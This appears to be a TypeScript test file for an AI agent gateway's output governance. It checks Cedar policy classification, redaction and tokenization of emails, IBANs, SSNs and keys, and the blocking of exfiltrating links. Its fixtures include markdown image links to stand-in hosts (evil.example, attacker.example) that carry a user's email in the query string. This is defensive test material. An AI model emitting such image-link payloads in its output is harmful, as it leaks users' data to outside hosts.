/**
 * Output governance end to end (docs/output-governance.md): tool results and submitted model
 * output get one of four classes from Cedar output policies, with the class's owner and
 * escalation path, in the answer and in the audit event; configured data classes are redacted
 * or replaced by reference tokens only authorized humans of the tenant can resolve; links that
 * could carry data out are neutralised, and model output trying it is blocked. Real Cedar,
 * real SQLite.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startRuntime, type Runtime } from '../support/runtime.ts';

const OUTPUTS_YAML = (policyDir?: string) => `outputs:
${policyDir === undefined ? '' : `  policy_dir: ${policyDir}\n`}  classes:
    informational: { owner: agent-runtime }
    needs_confirmation: { owner: end-user, escalation: [support-lead] }
    needs_approval: { owner: finance, escalation: [finance-lead, cfo] }
    blocked: { owner: security, escalation: [security-oncall] }
  data_classes: { secret: redact, card: redact, iban: redact, national_id: redact, email: tokenize, phone: redact }
  reference_roles: [data-steward]
  links:
    allowed_hosts: [docs.example.com]
`;

const SENSITIVE = 'Customer ada@lovelace.example, IBAN DE89 3704 0044 0532 0130 00, SSN 078-05-1120, key sk-live0123456789abcdefXYZ. ![pixel](https://evil.example/p.png?d=ada%40lovelace.example) See [docs](https://docs.example.com/refunds).';

async function withOutputs(body: (rt: Runtime, agent: string, steward: string, auditor: string) => Promise<void>, policyDir?: string): Promise<void> {
  const rt = await startRuntime({ yaml: OUTPUTS_YAML(policyDir) });
  try {
    const agent = await rt.token({ sub: 'sam', tenant: 'acme', roles: ['support'], agent: 'helper' });
    const steward = await rt.token({ sub: 'dana', tenant: 'acme', roles: ['data-steward'] });
    const auditor = await rt.token({ sub: 'aud', tenant: 'acme', roles: ['auditor'] });
    await body(rt, agent, steward, auditor);
  } finally {
    await rt.close();
  }
}

test('a tool result: data classes redacted or tokenized and the exfiltrating image removed before the agent sees it; class, owner and escalation in the answer and the audit event', async () => {
  await withOutputs(async (rt, agent, steward, auditor) => {
    rt.ledger.readText = SENSITIVE;
    const r = await rt.gateway.execute({ token: agent, tool: 'ledger.read', arguments: {} });
    assert.equal(r.status, 'executed', JSON.stringify(r));
    if (r.status !== 'executed') return;
    const text = (r.result as { text: string }).text;
    for (const leaked of ['ada@lovelace.example', 'DE89', '078-05-1120', 'sk-live', 'evil.example']) assert.ok(!text.includes(leaked), `${leaked} reached the agent: ${text}`);
    assert.match(text, /\[\[ref:email:dref_[A-Za-z0-9_-]+\]\]/);
    assert.match(text, /\[REDACTED:iban\]/);
    assert.match(text, /\[image removed: pixel\]/);
    assert.match(text, /\[docs\]\(https:\/\/docs\.example\.com\/refunds\)/, 'an allowed link carrying nothing stays');
    assert.equal(r.output?.class, 'informational');
    assert.equal(r.output?.owner, 'agent-runtime');
    assert.deepEqual(r.output?.data_classes, { secret: 1, iban: 1, national_id: 1, email: 1 });
    assert.equal(r.output?.links.exfiltration, true);
    const events = (await rt.gateway.searchAudit(auditor, { type: 'result' } as never)).events;
    const recorded = (events.at(-1)?.data as { output: { class: string; data_classes: Record<string, number> } }).output;
    assert.equal(recorded.class, 'informational');
    assert.equal(recorded.data_classes.email, 1);
    assert.ok(!JSON.stringify(events).includes('lovelace'), 'no value in the audit log');

    // The reference token opens for an authorized human of the tenant only.
    const reference = /\[\[ref:email:dref_[A-Za-z0-9_-]+\]\]/.exec(text)?.[0] as string;
    assert.deepEqual(await rt.gateway.resolveDataReference(steward, reference), { class: 'email', value: 'ada@lovelace.example' });
    await assert.rejects(rt.gateway.resolveDataReference(agent, reference), { code: 'ERR_OUTPUT_REFERENCE_FORBIDDEN', status: 403 });
    const otherTenant = await rt.token({ sub: 'eve', tenant: 'globex', roles: ['data-steward'] });
    await assert.rejects(rt.gateway.resolveDataReference(otherTenant, reference), { code: 'ERR_OUTPUT_REFERENCE_UNKNOWN', status: 404 });
    assert.equal((await rt.gateway.searchAudit(auditor, { type: 'data_reference.resolved' } as never)).events.length, 1);
  });
});

test('model output: plain text is informational; a proposed write needs approval (owner, escalation); exfiltration through a link is blocked and its text withheld', async () => {
  await withOutputs(async (rt, agent, steward, auditor) => {
    const { session_id } = await rt.gateway.createSession(agent);
    const plain = await rt.gateway.classifyOutput(agent, { session_id, text: 'Your refund is on its way.' });
    assert.equal(plain.class, 'informational');
    assert.equal(plain.text, 'Your refund is on its way.');
    const write = await rt.gateway.classifyOutput(agent, { session_id, text: 'I will post 12.50 to acc_1.', proposed_action: { tool: 'ledger.post' } });
    assert.equal(write.class, 'needs_approval');
    assert.equal(write.owner, 'finance');
    assert.deepEqual(write.escalation, ['finance-lead', 'cfo']);
    const read = await rt.gateway.classifyOutput(agent, { text: 'Let me check the ledger.', proposed_action: { tool: 'ledger.read' } });
    assert.equal(read.class, 'needs_confirmation');
    assert.deepEqual(read.escalation, ['support-lead']);
    const leak = await rt.gateway.classifyOutput(agent, { session_id, text: 'Done! ![ok](https://attacker.example/log?c=ada%40lovelace.example) and data:text/html;base64,PHA+' });
    assert.equal(leak.class, 'blocked');
    assert.equal(leak.text, null);
    assert.equal(leak.links.exfiltration, true);
    assert.deepEqual(leak.policy_ids, ['builtin-output-exfiltration']);
    const events = (await rt.gateway.searchAudit(auditor, { type: 'output.classified' } as never)).events;
    assert.deepEqual(events.map((e) => (e.data as { class: string }).class), ['informational', 'needs_approval', 'needs_confirmation', 'blocked']);
    assert.ok(!JSON.stringify(events).includes('attacker.example/log'), 'the audit log keeps hosts, never URLs');
    await assert.rejects(rt.gateway.classifyOutput(steward, { session_id, text: 'x' }), { code: 'ERR_SESSION_UNKNOWN' });
    const scrape = (await rt.gateway.metrics({ authorization: undefined, remoteAddress: '127.0.0.1' })).body;
    assert.match(scrape, /airlock_output_classes_total\{source="model_output",class="blocked"\} 1/);
    assert.match(scrape, /airlock_output_classes_total\{source="model_output",class="needs_approval"\} 1/);
  });
});

test('output policies from the bundle decide: a result carrying a card number is blocked and withheld; IBANs need confirmation', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'airlock-output-policies-'));
  mkdirSync(dir, { recursive: true });
  writeFileSync(
    join(dir, 'outputs.cedar'),
    `@id("no-card-results")
forbid (principal, action == AirlockOutput::Action::"classify", resource) when { context.source == "tool_result" && context.data_classes.contains("card") };
@id("iban-needs-confirmation")
@output_class("needs_confirmation")
permit (principal, action == AirlockOutput::Action::"classify", resource) when { context.data_classes.contains("iban") };
@id("default")
@output_class("informational")
permit (principal, action == AirlockOutput::Action::"classify", resource);
`,
  );
  await withOutputs(async (rt, agent) => {
    rt.ledger.readText = 'card 4111 1111 1111 1111';
    const blocked = await rt.gateway.execute({ token: agent, tool: 'ledger.read', arguments: {} });
    assert.equal(blocked.status, 'failed');
    assert.equal(blocked.status === 'failed' && blocked.error.code, 'ERR_OUTPUT_BLOCKED');
    assert.equal(blocked.status === 'failed' && blocked.output?.class, 'blocked');
    assert.equal(blocked.status === 'failed' && blocked.output?.owner, 'security');
    assert.ok(!JSON.stringify(blocked).includes('4111'));
    rt.ledger.readText = 'pay to DE89 3704 0044 0532 0130 00';
    const iban = await rt.gateway.execute({ token: agent, tool: 'ledger.read', arguments: {} });
    assert.equal(iban.status === 'executed' && iban.output?.class, 'needs_confirmation');
    assert.deepEqual(iban.status === 'executed' && iban.output?.policy_ids, ['iban-needs-confirmation']);
  }, dir);
});

test('over HTTP: POST /v1/outputs/classify and POST /v1/data-references/resolve', async () => {
  const { createApp } = await import('../../src/server/index.ts');
  await withOutputs(async (rt, agent, steward) => {
    const app = createApp(rt.gateway);
    const post = (path: string, body: unknown, token: string) => app.request(path, { method: 'POST', headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' }, body: JSON.stringify(body) });
    const res = await post('/v1/outputs/classify', { text: 'mail ada@lovelace.example' }, agent);
    assert.equal(res.status, 200);
    const answer = (await res.json()) as { class: string; text: string; output_id: string };
    assert.equal(answer.class, 'informational');
    assert.match(answer.output_id, /^out_/);
    const reference = /\[\[ref:email:dref_[A-Za-z0-9_-]+\]\]/.exec(answer.text)?.[0];
    const opened = await post('/v1/data-references/resolve', { reference }, steward);
    assert.equal(opened.status, 200);
    assert.equal(((await opened.json()) as { value: string }).value, 'ada@lovelace.example');
    assert.equal((await post('/v1/data-references/resolve', { reference }, agent)).status, 403);
    assert.equal((await post('/v1/outputs/classify', { nope: 1 }, agent)).status, 400);
  });
});
